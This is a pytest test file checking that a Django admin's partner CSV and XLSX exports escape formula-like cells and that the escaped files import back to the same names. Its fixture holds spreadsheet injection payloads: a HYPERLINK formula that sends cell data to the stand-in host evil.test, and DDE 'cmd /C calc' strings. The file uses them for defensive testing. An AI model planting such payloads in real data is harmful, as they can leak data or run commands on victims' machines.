"""The partner export (import-export admin, CSV and XLSX) never carries a live formula: a
hostile legal name, display name or contact comes out quoted, and an exported file imports
back to the same names."""

from __future__ import annotations

import io

import openpyxl
import pytest
import tablib

from partners.admin.resources import IMPORT_COLUMNS, PartnerResource
from partners.models import Partner
from tests.factories import PartnerFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "legal_name": '=HYPERLINK("https://evil.test/?"&A1,"Open")',
    "display_name": "+1+cmd|' /C calc'!A0",
    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_phone": "-2+3",
    "website": "\thttps://evil.test",
}


@pytest.fixture
def evil(db):
    return PartnerFactory(slug="evil-co", credit_code="91350100M000100Y43", **HOSTILE)


def _export(client, fmt: str):
    return client.post(
        "/admin/partners/partner/export/",
        {
            "format": {"csv": "0", "xlsx": "1"}[fmt],
            "resource": "0",
            **{f"partnerresource_{c}": "on" for c in (*IMPORT_COLUMNS, "status")},
        },
    )


def test_the_admin_csv_export_quotes_every_formula_like_cell(client, manager, evil):
    client.force_login(manager)

    response = _export(client, "csv")

    rows = tablib.Dataset().load(response.content.decode("utf-8-sig"), format="csv").dict
    row = next(r for r in rows if r["slug"] == "evil-co")
    assert {name: row[name] for name in HOSTILE} == {name: "'" + value for name, value in HOSTILE.items()}


def test_the_admin_xlsx_export_writes_them_as_text_never_as_formulas(client, manager, evil):
    client.force_login(manager)

    response = _export(client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("slug")].value == "evil-co")
    for name, value in HOSTILE.items():
        cell = row[header.index(name)]
        assert (cell.value, cell.data_type) == ("'" + value, "s")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_escaped_export_imports_back_to_the_same_names(manager, evil, file_format):
    payload = PartnerResource().export().export(file_format)
    Partner.objects.filter(pk=evil.pk).update(legal_name="changed", display_name="changed")

    result = PartnerResource().import_data(tablib.Dataset().load(payload, format=file_format), user=manager)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    evil.refresh_from_db()
    kept = {name: value for name, value in HOSTILE.items() if name != "website"}  # the import strips blanks
    assert {name: getattr(evil, name) for name in kept} == kept


def test_a_control_character_in_a_name_does_not_fail_the_xlsx_export(client, manager):
    PartnerFactory(slug="bell-co", display_name="Bell\x07 Co")
    client.force_login(manager)

    response = _export(client, "xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert "Bell\N{REPLACEMENT CHARACTER} Co" in [c.value for row in sheet.iter_rows() for c in row]
